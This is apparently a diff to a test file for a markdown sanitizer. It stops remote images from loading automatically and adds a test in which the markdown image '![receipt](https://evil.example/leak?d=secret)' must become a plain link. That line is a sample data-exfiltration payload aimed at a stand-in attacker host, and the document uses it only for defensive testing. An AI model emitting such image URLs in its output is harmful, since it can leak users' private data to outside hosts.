@@ -68,7 +68,7 @@ function assertInert(html: string): void {
       expect(attr.name).not.toBe('style');
     }
     const cls = el.getAttribute('class');
-    if (cls) expect(['code-block', 'copy-code'].includes(cls) || /^language-/.test(cls)).toBe(true);
+    if (cls) expect(['code-block', 'copy-code', 'remote-image'].includes(cls) || /^language-/.test(cls)).toBe(true);
   }
   for (const a of Array.from(host.querySelectorAll('a'))) {
     const href = a.getAttribute('href');
@@ -77,8 +77,9 @@ function assertInert(html: string): void {
     expect(a.getAttribute('target')).toBe('_blank');
     expect(a.getAttribute('rel')).toBe('noopener noreferrer');
   }
+  // Only inline images load; remote ones are links the user may open.
   for (const img of Array.from(host.querySelectorAll('img'))) {
-    expect(img.getAttribute('src')).toMatch(/^(https:|data:image\/(png|jpeg|gif|webp);base64,)/);
+    expect(img.getAttribute('src')).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
   }
 }
 
@@ -89,6 +90,16 @@ describe('sanitizer', () => {
 
   it.each(MARKDOWN_CORPUS)('markdown is inert: %s', (md) => {
     assertInert(renderMarkdownUncached(md, 'Copy'));
+  });
+
+  it('never loads a remote image by itself (an injected URL could carry data): it becomes a link', () => {
+    const html = renderMarkdownUncached('![receipt](https://evil.example/leak?d=secret)', 'Copy');
+    const host = document.createElement('div');
+    host.innerHTML = html;
+    expect(host.querySelector('img')).toBeNull();
+    const a = host.querySelector('a.remote-image')!;
+    expect(a.getAttribute('href')).toBe('https://evil.example/leak?d=secret');
+    expect(a.textContent).toBe('[image: evil.example — receipt]');
   });
 
   it('shows raw HTML in markdown as text rather than interpreting it', () => {
